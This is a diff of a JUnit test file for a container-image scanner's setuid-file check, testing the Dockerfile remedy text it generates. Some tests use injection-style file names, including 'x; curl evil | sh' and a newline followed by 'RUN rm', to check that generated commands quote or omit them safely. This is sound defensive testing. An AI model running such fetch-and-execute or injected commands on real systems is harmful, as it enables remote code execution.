@@ -1,13 +1,13 @@
 package dev.imageprovenance.scanner.check;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.imageprovenance.scanner.finding.Evidence.FileEvidence;
 import dev.imageprovenance.scanner.finding.Finding;
 import dev.imageprovenance.scanner.finding.LayerLocation;
+import dev.imageprovenance.scanner.finding.Remedy;
 import dev.imageprovenance.scanner.layer.FileCapabilities;
 import dev.imageprovenance.scanner.layer.FileTree;
 import java.time.Duration;
@@ -158,29 +158,57 @@ final class SetuidFilesCheckTest {
 
   @Test
   void remedyCanBePasted() {
-    assertTrue(
-        only(FakeFileTree.empty().file("bin/su", 04755, 0, 0))
-            .remedy()
-            .orElseThrow()
-            .contains("RUN chmod a-s /bin/su\n"));
+    assertEquals(
+        "RUN chmod a-s /bin/su", dockerfile(FakeFileTree.empty().file("bin/su", 04755, 0, 0)));
   }
 
   @Test
   void nameThatIsAShellCommandIsQuotedInTheRemedy() {
-    assertTrue(
-        only(FakeFileTree.empty().file("x; curl evil | sh '", 04755, 0, 0))
-            .remedy()
-            .orElseThrow()
-            .contains("RUN chmod a-s '/x; curl evil | sh '\\'''\n"));
+    assertEquals(
+        "RUN chmod a-s '/x; curl evil | sh '\\'''",
+        dockerfile(FakeFileTree.empty().file("x; curl evil | sh '", 04755, 0, 0)));
   }
 
   @Test
-  void nameThatCannotBePastedIsNotInTheRemedy() {
-    assertFalse(
-        only(FakeFileTree.empty().file("x\nRUN rm", 04755, 0, 0))
-            .remedy()
-            .orElseThrow()
-            .contains("rm"));
+  void nameThatCannotBePastedIsInNoInstruction() {
+    Remedy remedy = remedy(FakeFileTree.empty().file("x\nRUN rm", 04755, 0, 0));
+    assertEquals(Optional.empty(), remedy.dockerfile());
+  }
+
+  @Test
+  void nameThatCannotBePastedIsAcceptedAsReportsPrintIt() {
+    Remedy remedy = remedy(FakeFileTree.empty().file("x\ny", 04755, 0, 0));
+    assertEquals(List.of("--allow-setuid '/x\\u000ay'"), remedy.accept());
+  }
+
+  @Test
+  void remedyNamesEveryHardLinkBecauseOverlayChangesOneNameOnly() {
+    assertEquals(
+        "RUN chmod a-s /bin/a /bin/b",
+        dockerfile(FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b")));
+  }
+
+  @Test
+  void everyHardLinkMustBeAccepted() {
+    assertEquals(
+        List.of("--allow-setuid /bin/a", "--allow-setuid /bin/b"),
+        remedy(FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b")).accept());
+  }
+
+  @Test
+  void hiddenFileHasNoInstructionBecauseALaterLayerCannotReachIt() {
+    CheckOutcome outcome =
+        new SetuidFilesCheck(true)
+            .check(new TestFacts().tree(FakeFileTree.empty().hiddenFile("bin/su", 04755)).build());
+    assertEquals(Optional.empty(), outcome.findings().get(0).remedy().orElseThrow().dockerfile());
+  }
+
+  @Test
+  void ofManyHardLinksAFewAreToldAndTheOthersCounted() {
+    FakeFileTree tree =
+        FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b", "bin/c", "bin/d", "bin/e");
+    assertTrue(
+        only(tree).message().endsWith("; 4 further hard links: /bin/b, /bin/c, /bin/d and 1 more"));
   }
 
   @Test
@@ -261,5 +289,23 @@ final class SetuidFilesCheckTest {
             Duration.ofSeconds(20),
             () -> new SetuidFilesCheck(false).check(new TestFacts().tree(tree).build()));
     assertEquals(1, outcome.findings().size());
+  }
+
+  @Test
+  void aHundredThousandLinksAreNoCommandThatAShellTakes() {
+    String[] paths = new String[100_000];
+    for (int i = 0; i < paths.length; i++) {
+      paths[i] = "z" + i;
+    }
+    Remedy remedy = remedy(FakeFileTree.empty().hardLinks(04755, paths));
+    assertEquals(Remedy.of(remedy.text()).withJib(remedy.jib().orElseThrow()), remedy);
+  }
+
+  private Remedy remedy(FakeFileTree tree) {
+    return only(tree).remedy().orElseThrow();
+  }
+
+  private String dockerfile(FakeFileTree tree) {
+    return remedy(tree).dockerfile().orElseThrow().toString();
   }
 }
